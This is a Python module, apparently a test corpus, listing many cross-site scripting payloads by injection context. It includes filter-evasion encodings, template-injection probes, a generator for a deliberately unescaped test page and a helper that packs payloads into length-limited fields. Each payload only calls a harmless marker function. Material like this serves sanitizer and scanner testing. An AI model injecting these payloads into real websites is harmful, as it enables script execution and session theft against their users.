"""What people call themselves who want a page to run what they wrote. Each calls `ran()`, wherever it gets to run."""

from dataclasses import dataclass
from html import escape
from typing import Final

PLACES: Final = {
    "text": "<p>{}</p>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "url": '<iframe src="{}"></iframe>',
    "handler": "<img src=x onerror=\"window.name='{}'\">",
    "script": '<script>let said = "{}";</script>',
    "script-single": "<script>let said = '{}';</script>",
    "literal": "<script>let said = `{}`;</script>",
    "json": '<script type="application/json">{}</script>',
    "style": "<style>p {{ color: {} }}</style>",
    "comment": "<!-- {} -->",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "noscript": "<noscript>{}</noscript>",
    "srcdoc": '<iframe srcdoc="{}"></iframe>',
}
"""Where a careless page puts what it was given, as it was given."""

_BY_PLACE: Final = {
    "text": r"""
<script>ran()</script>
<ScRiPt>ran()</sCrIpT >
<script/x>ran()</script>
<<script>ran()//<</script>
<scr<script>ipt>ran()</scr</script>ipt>
<script src=data:,ran()></script>
<img src=x onerror=ran()>
<img/src=x/onerror=ran()//
<img src=x onerror="ran()"
<IMG SRC=x OnErRoR=&#114;&#97;n()>
<img src=x onerror=ran&lpar;&rpar;>
<image href=x src=x onerror=ran()>
<input autofocus onfocus=ran()>
<video><source onerror=ran()></video>
<audio src=x onerror=ran()>
<body onload=ran()>
<details open ontoggle=ran()>x</details>
<iframe onload=ran()></iframe>
<iframe src=javascript:ran()></iframe>
<iframe srcdoc="<script>ran()</script>"></iframe>
<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=ran()&gt;></iframe>
<object data="data:text/html,<script>ran()</script>"></object>
<embed src=javascript:ran()>
<base href=javascript:/a/-ran()////><a href=#>x</a>
<meta http-equiv=refresh content="0;url=javascript:ran()">
<link rel=stylesheet href=x onerror=ran()>
<style onload=ran()></style>
<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=ran()>x</b>
<marquee onstart=ran()>x</marquee>
<form action=javascript:ran()><button autofocus>x</button></form>
<a href=javascript:ran()>x</a>
<a href="jav&#x09;ascript:ran()">x</a>
<a href=&#x6a;avascript&colon;ran()>x</a>
<svg onload=ran()>
<svg/onload=ran()//
<svg><script>ran()</script></svg>
<svg><script>&#114;an&#40;)</script></svg>
<svg><script href=data:,ran() /></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><a><set attributeName=href to=javascript:ran() /><text>x</text></a></svg>
<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg></p><style><a id="</style><img src=x onerror=ran()>">
<math><mtext><img src=x onerror=ran()></mtext></math>
<math href=javascript:ran()>x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<template><img src=x onerror=ran()></template>
<select><img src=x onerror=ran()></select>
<table><td background=x><img src=x onerror=ran()></table>
<x onclick=ran() autofocus tabindex=1 onfocus=ran()>x</x>
<?xml version="1.0"?><img src=x onerror=ran()>
<![CDATA[<img src=x onerror=ran()>]]>
</main></body></html><img src=x onerror=ran()>
<%00script>ran()</script>
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;img src=x onerror=ran()&amp;gt;
%3Cscript%3Eran()%3C/script%3E
%253Cimg src=x onerror=ran()%253E
\u003cimg src=x onerror=ran()\u003e
\x3cimg src=x onerror=ran()\x3e
+ADw-script+AD4-ran()+ADw-/script+AD4-
+ADw-img src+AD0-x onerror+AD0-ran()+AD4-
%C0%BCscript%C0%BEran()%C0%BC/script%C0%BE
＜script＞ran()＜/script＞
﹤img src=x onerror=ran()﹥
‹script›ran()‹/script›
{{7*7}}
{{constructor.constructor('ran()')()}}
{{''.__class__.__mro__}}
{% print(7*7) %}{# x #}
${7*7}#{7*7}*{7*7}@(7*7)
{0.__class__}{name}{brand}%(name)s%s
<%= 7*7 %><?php echo 7*7 ?>
[[${7*7}]]th:onclick=ran()
https://x.example/<script>ran()</script>
x@x.example"><img src=x onerror=ran()>
""",
    "double": r"""
"><script>ran()</script>
"><img src=x onerror=ran()>
" autofocus onfocus=ran() x="
"/autofocus/onfocus="ran()
" type=image src=x onerror=ran() x="
"><svg onload=ran()>
&quot;><img src=x onerror=ran()>
\"><img src=x onerror=ran()>
""",
    "single": r"""
'><script>ran()</script>
'><img src=x onerror=ran()>
' autofocus onfocus=ran() x='
&#39; autofocus onfocus=ran() x=&#39;
""",
    "bare": r"""
x autofocus onfocus=ran()
x/autofocus/onfocus=ran()
><img src=x onerror=ran()>
`x`autofocus onfocus=ran()
""",
    "url": r"""
javascript:ran()
JaVaScRiPt:ran()
javascript://%0aran()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+ran()//'>
java&#9;script:ran()
&#1;javascript:ran()
javascript&#58;ran&#40;)
javas&Tab;cript&colon;ran()
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>
vbscript:ran()
//x.example/%0d%0ax:<script>ran()</script>
""",
    "handler": r"""
';ran();'
&#39;-ran()-&#39;
&apos;);ran();//
""",
    "script": r"""
";ran();//
\";ran();//
"-ran()-"
</script><script>ran()</script>
</script><img src=x onerror=ran()>
<!--<script>"; ran() //
""",
    "script-single": r"""
';ran();//
'-ran()-'
\';ran();//
""",
    "literal": r"""
${ran()}
`;ran();//
`+ran()+`
""",
    "json": r"""
"}</script><script>ran()</script>
""",
    "style": r"""
}</style><script>ran()</script>
red;}</style><img src=x onerror=ran()>
expression(ran())
url(javascript:ran())
red}@import 'javascript:ran()';
""",
    "comment": r"""
--><script>ran()</script>
--!><img src=x onerror=ran()>
><img src=x onerror=ran()>
-><img src=x onerror=ran()>
""",
    "title": r"""
</title><script>ran()</script>
</TITLE ><img src=x onerror=ran()>
""",
    "textarea": r"""
</textarea><script>ran()</script>
</textarea/x><img src=x onerror=ran()>
""",
    "noscript": r"""
</noscript><img src=x onerror=ran()>
</noscript><svg onload=ran()>
""",
    "srcdoc": r"""
<script>ran()</script>
&lt;script&gt;ran()&lt;/script&gt;
&lt;svg onload=ran()&gt;
""",
}
_UNPRINTABLE: Final = {
    "text": (
        "<scr\0ipt>ran()</scr\0ipt>",
        "<img\tsrc=x\nonerror=ran()>",
        "<img src=x on\0error=ran()>",
        "<svg\fonload=ran()>",
    ),
    "double": ('"\r\n\tautofocus\fonfocus=ran() x="',),
    "url": ("java\tscript:ran()", "java\r\nscript:ran()", "\x01javascript:ran()", "javascript\0:ran()"),
    "script": ('\\u2028";ran();//', "\u2028ran()\u2028//", "x\nran()\n//"),
}
"""What can't be anybody's name, but can be sent."""


@dataclass(frozen=True)
class Payload:
    """`text`, written for a certain place of a page."""

    place: str
    text: str

    @property
    def can_be_kept(self) -> bool:
        """Whether names may be so; longer ones are cut where some pages show them."""
        return self.text.isprintable() and len(self.text) <= LONGEST

    def in_careless_page(self) -> str:
        """A page that puts it where it was written for, without looking at it."""
        return PLACES[self.place].format(self.text)


LONGEST: Final = 120
"""Characters of a name that every page shows."""
CORPUS: Final = tuple(
    Payload(place, text)
    for place in PLACES
    for text in (*_BY_PLACE[place].strip().split("\n"), *_UNPRINTABLE.get(place, ()))
)


def careless() -> str:
    """A page of every payload, each in a frame that is called by its number."""
    frames = (
        f'<iframe name="{number}" srcdoc="{escape(payload.in_careless_page())}"></iframe>'
        for number, payload in enumerate(CORPUS)
    )
    return "<!doctype html>" + "".join(frames)


def bundles(payloads: list[Payload], longest: int) -> list[str]:
    """The payloads one behind another, in texts that are as long as a field takes."""
    made = list[str]()
    for payload in payloads:
        if made and len(made[-1]) + 1 + len(payload.text) <= longest:
            made[-1] += " " + payload.text
        else:
            made.append(payload.text)
    return made
